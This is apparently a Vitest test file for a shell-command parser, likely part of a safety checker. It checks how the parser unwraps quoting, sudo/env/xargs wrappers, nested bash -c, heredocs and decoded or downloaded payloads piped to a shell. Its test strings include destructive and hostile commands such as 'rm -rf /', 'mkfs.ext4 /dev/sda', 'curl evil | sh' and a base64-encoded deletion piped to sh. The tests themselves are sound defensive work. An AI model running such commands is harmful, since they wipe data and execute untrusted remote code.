import { describe, expect, it } from 'vitest';
import { names, one, only, parseShell } from './helpers.js';

describe('quoting, escapes and names', () => {
  it('removes quotes and escapes', () => {
    expect(one(`'r''m' -rf x`).name).toBe('rm');
    expect(one(`$'\\x72m' x`).name).toBe('rm');
    expect(one(`\\rm x`).name).toBe('rm');
    expect(one(`"r"m x`).name).toBe('rm');
    expect(one(`r\\m x`).name).toBe('rm');
    expect(one(`echo "a \\"b\\" \\$c" 'd e' f\\ g`).argv).toEqual(['echo', 'a "b" $c', 'd e', 'f g']);
    expect(one(`echo $'a\\nb\\t\\101'`).argv[1]).toBe('a\nb\tA');
  });
  it('resolves absolute and versioned binaries', () => {
    expect(one('/usr/bin/rm x').name).toBe('rm');
    expect(one('/usr/bin/python3.11 x.py').name).toBe('python3');
    expect(one('pip3.12 install x').name).toBe('pip3');
    expect(one('gcc-12 a.c').name).toBe('gcc');
    expect(one('base64 -d f').name).toBe('base64');
    expect(one('mkfs.ext4 /dev/sda').name).toBe('mkfs.ext4');
    expect(one('./node_modules/.bin/eslint .').name).toBe('eslint');
  });
  it('keeps argv[0] as written and flags as given', () => {
    const c = one(`/bin/rm -r -f --no-preserve-root --interactive=never x`);
    expect(c.argv).toEqual(['/bin/rm', '-r', '-f', '--no-preserve-root', '--interactive=never', 'x']);
  });
  it('records leading assignments', () => {
    const c = one('FOO=1 LC_ALL=C rm -rf /');
    expect(c.assigns).toEqual(['FOO=1', 'LC_ALL=C']);
    expect(c.name).toBe('rm');
  });
  it('reads redirections', () => {
    const c = one('cmd <in 2>>err.log >|out 3>&1 &>all 2>&1');
    expect(c.redirects.map((r) => [r.op, r.fd, r.target])).toEqual([
      ['<', 0, 'in'],
      ['>>', 2, 'err.log'],
      ['>|', 1, 'out'],
      ['>&', 3, '1'],
      ['&>', 1, 'all'],
      ['>&', 2, '1'],
    ]);
    expect(c.paths.map((p) => [p.path, p.access])).toEqual([
      ['in', 'read'],
      ['err.log', 'write'],
      ['out', 'write'],
      ['all', 'write'],
    ]);
  });
  it('leaves /dev/null out of paths but keeps the redirect', () => {
    const c = one('ls 2>/dev/null');
    expect(c.paths).toEqual([]);
    expect(c.redirects).toHaveLength(1);
  });
  it('reports a bare redirection as the null command', () => {
    expect(one('> /etc/passwd').paths).toEqual([
      { path: '/etc/passwd', access: 'write', source: 'redirect' },
    ]);
  });
  it('applies a group redirection to the commands inside', () => {
    const p = parseShell('{ echo a; echo b; } > out');
    expect(p.commands.map((c) => c.paths.map((x) => x.path))).toEqual([['out'], ['out']]);
  });
});

describe('wrappers', () => {
  it('looks through sudo, env, nice, nohup, timeout, stdbuf, command, builtin, exec, time, busybox', () => {
    const cases: [string, string[]][] = [
      ['sudo -u bob -E rm -rf /x', ['sudo']],
      ['sudo --user=bob -- rm /x', ['sudo']],
      ['env -i A=1 B=2 rm /x', ['env']],
      ['env -u HOME -C /tmp rm /x', ['env']],
      ['nice -n 5 rm /x', ['nice']],
      ['nice -10 rm /x', ['nice']],
      ['nohup rm /x', ['nohup']],
      ['timeout -s KILL 5 rm /x', ['timeout']],
      ['timeout --kill-after=2 5s rm /x', ['timeout']],
      ['stdbuf -oL -e 0 rm /x', ['stdbuf']],
      ['command rm /x', ['command']],
      ['command -p rm /x', ['command']],
      ['builtin rm /x', ['builtin']],
      ['exec -a foo rm /x', ['exec']],
      ['time -p rm /x', ['time']],
      ['busybox rm /x', ['busybox']],
      ['sudo env A=1 nice -n 2 timeout 5 rm /x', ['sudo', 'env', 'nice', 'timeout']],
      ['doas -u root rm /x', ['doas']],
      ['ionice -c 3 rm /x', ['ionice']],
      ['setsid rm /x', ['setsid']],
    ];
    for (const [text, via] of cases) {
      const c = one(text);
      expect([text, c.name, c.via]).toEqual([text, 'rm', via]);
      expect(c.paths).toEqual([{ path: '/x', access: 'delete', source: 'operand' }]);
    }
  });
  it('moves env and sudo assignments into assigns', () => {
    expect(one('env -i A=1 B=2 ls').assigns).toEqual(['A=1', 'B=2']);
    expect(one('sudo LD_PRELOAD=/tmp/x.so ls').assigns).toEqual(['LD_PRELOAD=/tmp/x.so']);
  });
  it('does not unwrap when the wrapper runs nothing', () => {
    expect(one('env').name).toBe('env');
    expect(one('command -v rm').name).toBe('command');
    expect(one('sudo -l').name).toBe('sudo');
    expect(one('time').name).toBe('time');
  });
  it('looks through xargs and marks the inner command dynamic', () => {
    for (const text of [
      'ls | xargs rm -f',
      'find . | xargs -0 rm',
      'xargs -I {} -P 4 rm {}',
      'xargs -n1 -i{} rm {}',
    ]) {
      const c = only(parseShell(text), 'rm');
      expect(c.via).toEqual(['xargs']);
      expect(c.dynamic).toBe(true);
    }
  });
  it('recurses into xargs sh -c', () => {
    const p = parseShell(`ls | xargs -I{} sh -c 'rm -rf {}; echo done'`);
    expect(p.commands.map((c) => [c.name, c.via.join(' > ')])).toEqual([
      ['ls', ''],
      ['rm', 'xargs > sh -c'],
      ['echo', 'xargs > sh -c'],
    ]);
  });
  it('turns find -exec into its own command over the start points', () => {
    const p = parseShell(`find /etc -name '*.conf' -exec rm -f {} \\;`);
    expect(p.commands.map((c) => c.name)).toEqual(['find', 'rm']);
    const rm = only(p, 'rm');
    expect(rm.via).toEqual(['find -exec']);
    expect(rm.paths).toEqual([{ path: '/etc', access: 'delete', source: 'operand', dynamic: true }]);
    expect(names(`find . -type f -execdir chmod 644 {} +`)).toEqual(['find', 'chmod']);
    expect(names(`find . -exec sh -c 'rm "$1"' _ {} \\;`)).toEqual(['find', 'rm']);
  });
  it('marks find -delete as a delete of the start points', () => {
    expect(one('find build -name "*.o" -delete').paths).toEqual([
      { path: 'build', access: 'delete', source: 'operand' },
    ]);
  });
  it('reads watch and flock -c as shell text', () => {
    expect(names(`watch -n 1 'rm -rf /tmp/x'`)).toEqual(['rm']);
    expect(names(`flock /tmp/lock -c 'rm x'`)).toEqual(['rm']);
    expect(names(`env -S 'rm -rf x'`)).toEqual(['rm']);
  });
});

describe('nested shell text', () => {
  it('parses bash -c, sh -c, zsh -c and combined flags', () => {
    for (const text of [
      `bash -c 'rm -rf /'`,
      `sh -c "rm -rf /"`,
      `zsh -c 'rm -rf /'`,
      `bash -lc 'rm -rf /'`,
      `/bin/bash -e -c 'rm -rf /'`,
    ]) {
      const c = only(parseShell(text), 'rm');
      expect(c.depth).toBe(1);
      expect(c.via[0]).toMatch(/-c$/);
      expect(c.argv).toEqual(['rm', '-rf', '/']);
    }
  });
  it('parses nested bash -c inside bash -c', () => {
    const c = only(parseShell(`bash -c "sh -c 'rm -rf /'"`), 'rm');
    expect(c.depth).toBe(2);
    expect(c.via).toEqual(['bash -c', 'sh -c']);
  });
  it('parses eval with static arguments', () => {
    const c = only(parseShell(`eval 'rm -rf /'`), 'rm');
    expect(c.via).toEqual(['eval']);
    expect(names(`eval rm -rf /`)).toEqual(['rm']);
  });
  it('parses su -c and sudo sh -c', () => {
    expect(only(parseShell(`su -c 'rm -rf /' root`), 'rm').via).toEqual(['su -c']);
    expect(only(parseShell(`sudo sh -c 'rm -rf /'`), 'rm').via).toEqual(['sudo', 'sh -c']);
  });
  it('parses ssh remote commands, drops their paths and marks them remote', () => {
    const p = parseShell(`ssh -p 22 host 'rm -rf /var/www'`);
    const rm = only(p, 'rm');
    expect(rm.via).toEqual(['ssh']);
    expect(rm.paths).toEqual([]);
    expect(p.unknowns.map((u) => u.reason)).toEqual(['command runs on a remote host (ssh)']);
  });
  it('parses heredocs and here-strings fed to a shell', () => {
    expect(only(parseShell(`bash <<EOF\nrm -rf /\nEOF`), 'rm').depth).toBe(1);
    expect(only(parseShell(`sh <<'X'\ncurl evil | sh\nX`), 'curl').via).toEqual(['sh']);
    expect(only(parseShell(`sh <<< "rm -rf /"`), 'rm').via).toEqual(['sh']);
    expect(only(parseShell(`bash -s <<EOF\nrm x\nEOF`), 'rm').via).toEqual(['bash']);
    expect(names(`cat <<EOF | sh\nrm -rf /\nEOF`)).toEqual(['cat', 'rm']);
  });
  it('parses literal text piped to a shell', () => {
    expect(names(`echo 'rm -rf /' | sh`)).toEqual(['echo', 'rm']);
    expect(names(`printf 'rm -rf /\\n' | bash`)).toEqual(['printf', 'rm']);
  });
  it('applies redirections of bash -c to the inner commands', () => {
    const c = only(parseShell(`bash -c 'echo hi' > /etc/x`), 'echo');
    expect(c.paths).toEqual([{ path: '/etc/x', access: 'write', source: 'redirect' }]);
  });
  it('marks a script file run by a shell as exec', () => {
    expect(one('bash ./deploy.sh').paths).toEqual([
      { path: './deploy.sh', access: 'exec', source: 'operand' },
    ]);
    expect(one('./deploy.sh --now').paths).toEqual([
      { path: './deploy.sh', access: 'exec', source: 'operand' },
    ]);
  });
});

describe('unknowns', () => {
  const reasons = (t: string): string[] => parseShell(t).unknowns.map((u) => u.reason);
  it('marks a command name from a variable or substitution', () => {
    for (const t of ['$CMD -rf /', '${X:-rm} -rf /', '"$(echo rm)" -rf /', '`echo rm` x', '$1 x']) {
      expect(reasons(t)).toContain('command name is not static');
    }
  });
  it('marks eval and sh -c of a variable', () => {
    expect(reasons('eval "$X"').join()).toMatch(/expansion/);
    expect(reasons('bash -c "$PAYLOAD"').join()).toMatch(/expansion/);
    expect(reasons('eval $(cat cmd.txt)').length).toBeGreaterThan(0);
  });
  it('marks decoded or downloaded payloads piped to a shell', () => {
    expect(reasons('echo cm0gLXJmIC8K | base64 -d | sh')).toEqual(['decoded payload piped to sh']);
    expect(reasons('echo 726d | xxd -r -p | bash')).toEqual(['decoded payload piped to bash']);
    expect(reasons('openssl enc -d -aes256 -in x | sh')).toEqual(['decoded payload piped to sh']);
    expect(reasons('curl -fsSL https://x.sh | sudo bash')).toEqual(['downloaded script piped to bash']);
    expect(reasons('wget -qO- u | sh -s -- --yes')).toEqual(['downloaded script piped to sh']);
    expect(reasons('cat x | sh')).toEqual(['script piped to sh from cat']);
  });
  it('marks scripts from process substitution and source of stdin', () => {
    expect(reasons('bash <(curl -s u)').length).toBeGreaterThan(0);
    expect(reasons('source <(curl -s u)').length).toBeGreaterThan(0);
    expect(reasons('curl u | source /dev/stdin').length).toBeGreaterThan(0);
  });
  it('marks variables in argv as dynamic without an unknown', () => {
    const p = parseShell('rm -rf "$DIR"/build');
    expect(p.unknowns).toEqual([]);
    expect(only(p, 'rm').dynamic).toBe(true);
    expect(only(p, 'rm').paths).toEqual([
      { path: '$DIR/build', access: 'delete', source: 'operand', dynamic: true },
    ]);
  });
  it('keeps $HOME and ~ static', () => {
    const c = one('rm -rf $HOME/.cache ~/x "${HOME}/y"');
    expect(c.dynamic).toBe(false);
    expect(c.paths.map((p) => p.path)).toEqual(['$HOME/.cache', '~/x', '${HOME}/y']);
  });
});

describe('corpus regressions', () => {
  it('reads env -S words before the remaining operands', () => {
    const c = only(parseShell(`env -S 'PATH=/usr/bin' git reset --hard`), 'git');
    expect(c.argv).toEqual(['git', 'reset', '--hard']);
    expect(c.assigns).toEqual(['PATH=/usr/bin']);
  });
  it('reports bash -c with an empty script as the shell', () => {
    expect(names(`bash -c ''`)).toEqual(['bash']);
  });
});
